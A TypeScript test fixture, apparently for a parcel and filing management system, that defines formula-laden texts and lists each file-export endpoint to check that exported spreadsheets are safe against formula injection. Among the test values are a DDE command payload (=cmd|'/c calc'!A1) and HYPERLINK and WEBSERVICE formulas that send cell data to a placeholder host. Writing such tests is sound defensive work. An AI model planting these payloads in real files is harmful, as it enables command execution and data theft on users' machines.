import type { EndpointId } from '#core/api/table.ts'
import type { Actor } from '#server/actions/actor.ts'
import { qianJin, shiLi, wangFang, zhouTao } from '../server/cast.ts'
import { assessed, faGai, jingWei, staged } from '../server/filing/stage.ts'
import { madeAgain } from '../server/formal/made-again.ts'
import { answer, type Call, type TestApp } from '../server/http/test-app.ts'
import { cycle } from '../server/rows.ts'
import { classListExports } from './class-lists-with-formulas.ts'
import {
  baseImportWithFormulas,
  differencesWithFormulas,
  evaluatedWithFormulas,
  listWithFormulas,
  planWithFormulas,
  publicationWithFormulas,
  reportWithFormulas,
  taxOffice,
  typedInBase,
  typedInList,
  typedInPlan,
  typedInReport,
} from './files-with-formulas.ts'
import { formulas } from './formula-texts.ts'

/** The code of a parcel, itself a formula. */
export function codeOf(index: number): string {
  return `=P+${index}`
}

/** A file and what must be found in it. */
export interface Export {
  readonly by: Actor
  readonly request: Call
  /** Makes what the file is about; its id. */
  readonly made?: (app: TestApp) => Promise<string>
  /** Texts of ours that must be found in it, each in a cell of its own. */
  readonly holds: readonly string[]
}

export const codes = formulas.map((_, index) => codeOf(index))

/** Of one filing, by label: whatever a text takes. */
const filingTexts = {
  项目名称: '=1+1',
  项目单位: "=cmd|'/c calc'!A1",
  项目地址: '@SUM(1)',
  改造内容: '=HYPERLINK("http://192.0.2.1/?x="&A1,"点我")',
  主要污染物: '-2+3',
  正面清单条款: '{=1+1}',
}
const noteTyped = '=WEBSERVICE("http://192.0.2.1/")'
const commentTyped = '+1+1'

/** A filing in 联审 whose texts are formulas; its id. */
export async function filingWithFormulas(app: TestApp): Promise<string> {
  const filing = await staged(app, filingTexts)
  await filing.act(shiLi, { kind: 'submit' }, { documents: ['boundary', 'title', 'contract'] })
  await filing.act(jingWei, { kind: 'accept' })
  const act = assessed('inside-kept')
  const answers = 'answers' in act ? act.answers.map((each) => ({ ...each, note: noteTyped })) : []
  await filing.act(
    jingWei,
    { ...act, ...('answers' in act ? { answers } : {}) },
    { documents: ['preliminary-opinion'] },
  )
  await filing.toStamped()
  await filing.act(jingWei, { kind: 'open-review', invited: [{ reviewer: 'reform', dueDay: '2026-11-30' }] })
  const opinion = { kind: 'give-opinion', reviewer: 'reform', opinion: '同意' } as const
  await filing.act(faGai, opinion, { comment: commentTyped })
  return filing.id
}

/** Every endpoint that answers with a file. A new one fails the test until it has a line here. */
export const exports: Readonly<Partial<Record<EndpointId, Export | 'holds nothing typed' | 'has a test of its own'>>> =
  {
    exportLedger: { by: zhouTao, request: { query: { cycle } }, holds: [...codes, ...formulas] },
    exportSoeLettings: { by: zhouTao, request: { query: { cycle, soe: '否,区属' } }, holds: codes },
    ...classListExports,
    exportDisposalPlans: {
      by: zhouTao,
      request: {},
      made: planWithFormulas,
      holds: ['=P+1', ...Object.values(typedInPlan)],
    },
    exportSoeDisposal: {
      by: zhouTao,
      request: {},
      made: planWithFormulas,
      holds: ['=P+1', typedInPlan.milestone1Name],
    },
    disposalSheet: { by: zhouTao, request: {}, made: planWithFormulas, holds: ['=P+1', ...Object.values(typedInPlan)] },
    disposalPlanFile: 'holds nothing typed',
    exportFormalGates: {
      by: zhouTao,
      request: { query: { cycle } },
      made: async (app) => {
        await answer(app, zhouTao, 'checkFormalGates', { body: { cycle } })
        return ''
      },
      holds: codes,
    },
    exportReEvaluation: { by: zhouTao, request: {}, made: (app) => madeAgain(app, codes, '=1+1'), holds: codes },
    exportResults: { by: zhouTao, request: { params: { id: '1' } }, holds: codes },
    // Every parcel is told: a year without rows has none of them.
    exportComparison: {
      by: zhouTao,
      request: { query: { cycle: '2024', from: 'evaluation:1', to: 'standard:REG-示例-2026.1' } },
      holds: codes,
    },
    // JSON for the page.
    compare: 'has a test of its own',
    tryOutParcels: 'has a test of its own',
    issueInvitations: {
      by: wangFang,
      request: { body: { cycle, parcelCodes: codes } },
      holds: [formulas[0] ?? '', codes[1] ?? ''],
    },
    checkUpSheet: {
      by: zhouTao,
      request: { params: { cycle, parcelCode: codes[1] ?? '' }, query: { format: 'xlsx', evaluation: '1' } },
      holds: [codes[1] ?? '', formulas[1] ?? ''],
    },
    // PDFs, one or many.
    checkUpSheets: 'holds nothing typed',
    exportAudit: { by: qianJin, request: {}, holds: ['=1+1'] },
    template: 'holds nothing typed',
    // PDFs, and pictures as somebody sent them.
    surveySheets: 'holds nothing typed',
    surveySummary: 'holds nothing typed',
    surveyPicture: 'holds nothing typed',
    letter: 'holds nothing typed',
    // Figures, and names of our own.
    exportProgress: 'holds nothing typed',
    exportDecisionOverview: 'holds nothing typed',
    letterBatch: 'has a test of its own',
    exportFormalLetters: 'has a test of its own',
    letterBatchFile: 'has a test of its own',
    // PDFs and .docx, which have no cells, and files as somebody sent them.
    formalLetterFile: 'holds nothing typed',
    letterReceipt: 'holds nothing typed',
    // The file as somebody sent it.
    filingDocument: 'holds nothing typed',
    disputeFile: 'holds nothing typed',
    stageDocument: 'holds nothing typed',
    // Parcels as rows of a workbook and of a CSV within a zip.
    cityPackageFile: 'has a test of its own',
    archiveFile: 'has a test of its own',
    opinionTemplate: {
      by: zhouTao,
      request: { params: { cycle } },
      made: evaluatedWithFormulas,
      holds: [codes[1] ?? '', formulas[1] ?? ''],
    },
    objectionFile: 'holds nothing typed',
    publicationFile: {
      by: zhouTao,
      request: { params: { number: '1' }, query: { as: 'xlsx' } },
      made: publicationWithFormulas,
      holds: [codes[1] ?? '', formulas[1] ?? ''],
    },
    filingSheet: {
      by: zhouTao,
      request: { params: { version: '1' }, query: { format: 'xlsx' } },
      holds: [...Object.values(filingTexts), noteTyped],
    },
    filingReviewTable: { by: zhouTao, request: { query: { format: 'xlsx' } }, holds: [commentTyped] },
    filingHandover: { by: zhouTao, request: {}, holds: Object.values(filingTexts) },
    exportFilings: { by: zhouTao, request: {}, holds: [filingTexts.项目名称, filingTexts.项目单位] },
    baseReport: { by: zhouTao, request: {}, made: baseImportWithFormulas, holds: Object.values(typedInBase) },
    departmentListReport: { by: taxOffice, request: {}, made: listWithFormulas, holds: Object.values(typedInList) },
    exportLayerDifferences: {
      by: zhouTao,
      request: { query: { cycle } },
      made: differencesWithFormulas,
      holds: [codes[1] ?? '', formulas[1] ?? ''],
    },
    mechanismFile: {
      by: zhouTao,
      request: { params: { year: '2026', version: '1' }, query: { format: 'xlsx' } },
      made: reportWithFormulas,
      holds: Object.values(typedInReport),
    },
    // Workbooks with formulas of ours.
    uploadRunReport: 'has a test of its own',
    handOutWorkbooks: 'has a test of its own',
    accountListTemplate: 'holds nothing typed',
    createAccounts: 'has a test of its own',
    standardWorkbook: 'has a test of its own',
    // JSON.
    standardJsonFile: 'holds nothing typed',
    exportRoster: 'has a test of its own',
    inviteTown: 'has a test of its own',
  }
